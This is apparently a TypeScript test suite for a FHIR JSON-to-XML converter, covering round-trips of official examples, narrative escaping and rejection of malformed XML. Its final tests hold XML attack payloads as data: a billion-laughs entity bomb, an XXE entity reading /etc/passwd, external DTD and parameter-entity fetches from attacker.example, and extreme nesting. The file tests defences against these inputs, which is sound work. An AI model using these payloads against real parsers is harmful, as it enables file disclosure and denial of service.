import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { FIXTURES_DIR, readFixture } from '@dmp/test-fixtures';
import { isFhirError } from '@dmp/errors';
import { fhirXmlToJson, jsonToFhirXml } from './xml-format';

const DEPTH = 128;

/** Every FHIR resource among the official examples of `tests/fixtures` (indexes left out). */
function fixtureResources(): string[] {
  const found: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const file = path.join(dir, name);
      if (statSync(file).isDirectory()) walk(file);
      else if (name.endsWith('.json')) found.push(path.relative(FIXTURES_DIR, file));
    }
  };
  walk(FIXTURES_DIR);
  return found.filter((file) => {
    const json = readFixture<{ resourceType?: unknown }>(...file.split(path.sep));
    return typeof json.resourceType === 'string';
  });
}

function codeOf(fn: () => unknown): string | undefined {
  try {
    fn();
  } catch (error) {
    if (isFhirError(error)) return error.code;
    throw error;
  }
  return undefined;
}

const read = (xml: string) => fhirXmlToJson(xml, DEPTH);

describe('FHIR JSON → XML → JSON on the official examples', () => {
  const files = fixtureResources();

  it('finds the examples of every source', () => {
    const sources = new Set(files.map((file) => file.split(path.sep)[0]));
    expect([...sources].sort()).toEqual([
      'asbestos-mhd-v420',
      'balp-1.1.4',
      'mhd-4.2.3',
      'pdsm-3.1.1',
      'pdsm4dmp-0.1.0',
      'r4',
    ]);
    expect(files.length).toBeGreaterThanOrEqual(140);
  });

  it.each(files)('%s comes back equal', (file) => {
    const json = readFixture<Record<string, unknown>>(...file.split(path.sep));
    let expected = json;
    if (file.endsWith('Missing_PatientID_Reference__pdb.json')) {
      // The case sends `"subject": {}`: an element with no content, which XML cannot carry
      // (FHIR forbids empty elements in both encodings); it is the one difference.
      expected = JSON.parse(JSON.stringify(json).replace(',"subject":{}', '')) as typeof json;
      expect(expected).not.toEqual(json);
    }

    const xml = jsonToFhirXml(json);

    expect(
      xml.startsWith(
        `<?xml version="1.0" encoding="UTF-8"?><${String(json.resourceType)} xmlns="http://hl7.org/fhir">`,
      ),
    ).toBe(true);
    expect(read(xml)).toEqual(expected);
  });
});

describe('what the fhir package alone gets wrong, fixed', () => {
  it('keeps decimals as JSON numbers (a Quantity 1 inside a document Bundle)', () => {
    const bundle = readFixture(
      'mhd-4.2.3',
      'Bundle-ex-comprehensiveProvideDocumentBundleDocument.json',
    );
    const back = read(jsonToFhirXml(bundle as object));

    expect(JSON.stringify(back)).toContain('"doseQuantity":{"value":1,');
  });

  it('writes the narrative XHTML as it is, whitespace-only text included', () => {
    const div =
      '<div xmlns="http://www.w3.org/1999/xhtml"><a name="x"> </a><p title="a &lt; b &amp; &quot;c&quot;">1 &lt; 2</p></div>';
    const patient = { resourceType: 'Patient', text: { status: 'generated', div } };

    const xml = jsonToFhirXml(patient);

    expect(xml).toContain(`<text><status value="generated"/>${div}</text>`);
    expect(read(xml)).toEqual(patient);
  });

  it('escapes a stored div of another namespace or followed by anything, so no element is added to the resource', () => {
    for (const div of [
      '<div xmlns="http://hl7.org/fhir"><active value="false"/></div>',
      '<div xmlns="http://www.w3.org/1999/xhtml">x</div><?xml-stylesheet href="x"?>',
    ]) {
      const xml = jsonToFhirXml({ resourceType: 'Patient', text: { status: 'generated', div } });

      expect(xml).not.toContain('<active');
      expect(xml).not.toContain('<?xml-stylesheet');
      expect(read(xml)).toMatchObject({ resourceType: 'Patient', text: { status: 'generated' } });
      expect(read(xml)).not.toHaveProperty('active');
    }
  });

  it('adds the XHTML namespace to a JSON div without one, and escapes a broken one', () => {
    const xml = jsonToFhirXml({
      resourceType: 'List',
      contained: [{ resourceType: 'Patient', text: { status: 'generated', div: '<div>ok</div>' } }],
      text: { status: 'generated', div: '<div>a < b' },
      status: 'current',
      mode: 'working',
    });

    expect(xml).toContain('<div xmlns="http://www.w3.org/1999/xhtml">ok</div>');
    expect(xml).toContain('<div xmlns="http://www.w3.org/1999/xhtml">&lt;div&gt;a &lt; b</div>');
    expect(read(xml)).toMatchObject({ status: 'current' });
  });

  it.each([
    ['markup characters', 'a < b > c & d "e" \'f\''],
    ['an entity written out', 'Tom &amp; Jerry'],
    ['line breaks and tabs', 'one\ntwo\r\nthree\tfour'],
    ['non-ASCII text', 'Hélène Œuvre — 日本 😀'],
  ])('round-trips %s in a string value', (_name, value) => {
    const patient = { resourceType: 'Patient', name: [{ text: value, given: [value] }] };

    expect(read(jsonToFhirXml(patient))).toEqual(patient);
  });

  it('round-trips primitive extensions, ids and booleans false / integers 0', () => {
    const patient = {
      resourceType: 'Patient',
      id: 'p1',
      active: false,
      multipleBirthInteger: 0,
      birthDate: '1970-01-01',
      _birthDate: {
        id: 'b1',
        extension: [{ url: 'http://example.org/x', valueDecimal: 1.25 }],
      },
      name: [
        { given: ['A', 'B'], _given: [null, { extension: [{ url: 'u', valueString: 's' }] }] },
      ],
    };

    expect(read(jsonToFhirXml(patient))).toEqual(patient);
  });
});

describe('reading FHIR XML refuses what it cannot read faithfully', () => {
  const patient = (inner: string) => `<Patient xmlns="http://hl7.org/fhir">${inner}</Patient>`;

  it.each([
    ['an unknown element', patient('<colour value="blue"/>'), 'Patient.colour'],
    ['an element of another resource', patient('<status value="current"/>'), 'Patient.status'],
    ['an attribute instead of an element', patient('<name family="Martin"/>'), 'Patient.name'],
    ['text content', patient('<gender>male</gender>'), 'Patient.gender'],
    ['an empty value', patient('<gender value=""/>'), 'Patient.gender'],
    ['an empty element', patient('<managingOrganization/>'), 'Patient.managingOrganization'],
    [
      'a repeated single element',
      patient('<gender value="male"/><gender value="female"/>'),
      'Patient.gender',
    ],
    [
      'an element in another namespace',
      patient('<gender xmlns="urn:x" value="male"/>'),
      'Patient.gender',
    ],
  ])('%s → DMP-HTTP-MALFORMED-XML naming it', (_name, xml, expression) => {
    try {
      read(xml);
      throw new Error('accepted');
    } catch (error) {
      if (!isFhirError(error)) throw error;
      expect(error.code).toBe('DMP-HTTP-MALFORMED-XML');
      expect(error.outcome.issue[0]?.expression).toEqual([expression]);
    }
  });

  it.each([
    ['not XML', '{"resourceType":"Patient"}'],
    ['an empty body', ''],
    ['an unclosed element', '<Patient xmlns="http://hl7.org/fhir"><id value="1"></Patient>'],
    [
      'two root elements',
      '<Patient xmlns="http://hl7.org/fhir"/><Patient xmlns="http://hl7.org/fhir"/>',
    ],
    ['no FHIR namespace', '<Patient><id value="1"/></Patient>'],
    ['a data type, not a resource', '<HumanName xmlns="http://hl7.org/fhir"/>'],
    ['an unknown resource type', '<Dragon xmlns="http://hl7.org/fhir"/>'],
    ['a boolean that is not one', patient('<active value="yes"/>')],
    ['an integer that is not one', patient('<multipleBirthInteger value="1.5"/>')],
    ['an HTML entity', patient('<gender value="&nbsp;"/>')],
    [
      'a narrative div outside XHTML',
      patient('<text><status value="generated"/><div>x</div></text>'),
    ],
  ])('%s → DMP-HTTP-MALFORMED-XML', (_name, xml) => {
    expect(codeOf(() => read(xml))).toBe('DMP-HTTP-MALFORMED-XML');
  });

  it('refuses the billion laughs before expanding anything', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE Patient [',
      '<!ENTITY lol "lol">',
      ...Array.from(
        { length: 9 },
        (_, i) =>
          `<!ENTITY lol${String(i + 1)} "${`&lol${i === 0 ? '' : String(i)};`.repeat(10)}">`,
      ),
      ']>',
      '<Patient xmlns="http://hl7.org/fhir"><gender value="&lol9;"/></Patient>',
    ].join('\n');

    const started = Date.now();
    expect(codeOf(() => read(lol))).toBe('DMP-HTTP-MALFORMED-XML');
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it.each([
    ['an external entity', '<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
    ['an external DTD', '<!DOCTYPE Patient SYSTEM "http://attacker.example/evil.dtd">'],
    ['a parameter entity', '<!DOCTYPE p [<!ENTITY % pe SYSTEM "http://attacker.example/x">%pe;]>'],
    ['a bare DOCTYPE', '<!doctype Patient>'],
  ])('refuses %s', (_name, doctype) => {
    const xml = `${doctype}<Patient xmlns="http://hl7.org/fhir"><gender value="male"/></Patient>`;

    expect(codeOf(() => read(xml))).toBe('DMP-HTTP-MALFORMED-XML');
  });

  it('refuses an undeclared entity reference', () => {
    expect(codeOf(() => read(patient('<gender value="&xxe;"/>')))).toBe('DMP-HTTP-MALFORMED-XML');
  });

  it('refuses nesting past the depth bound before converting (no stack exhaustion)', () => {
    const deep = `${'<extension url="u">'.repeat(100_000)}${'</extension>'.repeat(100_000)}`;

    expect(codeOf(() => read(patient(deep)))).toBe('DMP-HTTP-JSON-TOO-DEEP');
  });

  it('accepts comments, a byte order mark and whitespace between elements', () => {
    const xml = `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- a comment -->\n${patient(
      '\n  <!-- inside -->\n  <gender value="male"/>\n',
    )}\n`;

    expect(read(xml)).toEqual({ resourceType: 'Patient', gender: 'male' });
  });
});
